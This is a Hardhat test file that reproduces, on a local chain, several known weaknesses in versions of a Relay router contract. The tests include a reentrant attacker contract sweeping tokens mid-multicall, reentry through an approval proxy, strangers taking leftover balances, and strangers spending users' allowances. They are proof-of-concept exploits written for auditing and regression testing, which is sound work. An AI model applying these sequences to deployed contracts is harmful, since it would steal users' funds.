import { expect } from "chai";
import { network } from "hardhat";
import {
  routerCall as call,
  deployRouter,
  ROUTER_VERSIONS,
  type RouterCall,
  type RouterVersion,
} from "./support/routers.ts";

const { ethers, networkHelpers } = await network.create();

async function deployWith(version: RouterVersion) {
  const [solver, victim, stranger] = await ethers.getSigners();
  if (!solver || !victim || !stranger) throw new Error("The local chain has too few accounts.");
  const routing = await deployRouter(ethers, version);
  const token = await ethers.deployContract("LocalToken", ["Dollar", "USD", 6, solver.address]);
  const thief = await ethers.deployContract("ReentrantTarget");
  const dollars = await token.getAddress();
  const thiefAddress = await thief.getAddress();
  await token.mint(routing.router, 500n);
  const steal = routing.encode("cleanupErc20s", [[dollars], [thiefAddress], [0n]]);
  return { ...routing, token, dollars, thief, thiefAddress, steal, solver, victim, stranger };
}

/** Arguments of an empty transfer through the approval proxy. */
type Running = [
  tokens: string[],
  amounts: bigint[],
  calls: RouterCall[],
  refundTo: string,
  nftRecipient: string,
  metadata: string,
];

async function deployV3() {
  return deployWith("RelayRouterV3");
}

describe("production weaknesses that RelayRouterV3 keeps", () => {
  it("a nested call to itself clears the guard, and a third party sweeps in the same multicall", async () => {
    const { router, multicall, encode, token, dollars, thief, thiefAddress, steal, victim } =
      await networkHelpers.loadFixture(deployV3);
    await thief.arm(router, steal);
    const innocent = encode("cleanupErc20s", [[dollars], [victim.address], [1n]]);
    await multicall([call(await router.getAddress(), innocent), call(thiefAddress)], victim);
    expect(await thief.lastSuccess()).to.equal(true);
    expect(await token.balanceOf(thief)).to.equal(499n);
  });

  it("any account re-enters a multicall of the approval proxy through the approval proxy", async () => {
    const { router, token, thief, thiefAddress, steal, solver, victim } =
      await networkHelpers.loadFixture(deployV3);
    const proxy = await ethers.deployContract("RelayApprovalProxyV3", [solver, router, solver]);
    const running = (calls: RouterCall[]): Running => [
      [],
      [],
      calls,
      victim.address,
      ethers.ZeroAddress,
      "0x",
    ];
    const nested = running([call(await router.getAddress(), steal)]);
    await thief.arm(proxy, proxy.interface.encodeFunctionData("transferAndMulticall", nested));
    await proxy.transferAndMulticall(...running([call(thiefAddress)]));
    expect(await token.balanceOf(thief)).to.equal(500n);
  });
});

describe("production weaknesses that RelayRouterV2_1 keeps", () => {
  it("the cleanups are unguarded, so a third party sweeps in the middle of any multicall", async () => {
    const { router, multicall, token, thief, thiefAddress, steal, victim } =
      await deployWith("RelayRouterV2_1");
    await thief.arm(router, steal);
    await multicall([call(thiefAddress)], victim);
    expect(await thief.lastSuccess()).to.equal(true);
    expect(await token.balanceOf(thief)).to.equal(500n);
  });
});

for (const version of ROUTER_VERSIONS) {
  async function deploy() {
    return deployWith(version);
  }
  const load = () => networkHelpers.loadFixture(deploy);

  describe(`production weaknesses of every version, kept by ${version}`, () => {
    it("an attacker takes tokens and native currency that were left behind", async () => {
      const { router, as, dollars, token, stranger } = await load();
      await networkHelpers.setBalance(await router.getAddress(), 7n);
      await as(stranger)("cleanupErc20s", [[dollars], [stranger], [0n]]);
      expect(await token.balanceOf(stranger)).to.equal(500n);
      const sweeping = as(stranger)("cleanupNative", [0n, ethers.ZeroAddress]);
      await expect(sweeping).to.changeEtherBalance(ethers, router, -7n);
    });

    it("any account spends an allowance that was given to the router", async () => {
      const { router, as, token, dollars, victim, stranger } = await load();
      await token.mint(victim, 500n);
      const pair = [victim.address, stranger.address] as const;
      const pull = token.interface.encodeFunctionData("transferFrom", [...pair, 200n]);
      await token.connect(victim).approve(router, 200n);
      await as(stranger)("multicall", [[call(dollars, pull)], stranger, ethers.ZeroAddress]);
      expect(await token.balanceOf(stranger)).to.equal(200n);
    });

    it("cleanupErc20sViaCall leaves the unused allowance in place", async () => {
      const { router, send, token, victim } = await load();
      const vault = await ethers.deployContract("LocalVault", [token, "Dollar Vault", "vUSD"]);
      const deposit = vault.interface.encodeFunctionData("deposit", [200n, victim.address]);
      await send("cleanupErc20sViaCall", [[token], [vault], [deposit], [0n]]);
      expect(await token.allowance(router, vault)).to.equal(300n);
      expect(await token.balanceOf(router)).to.equal(300n);
    });
  });
}
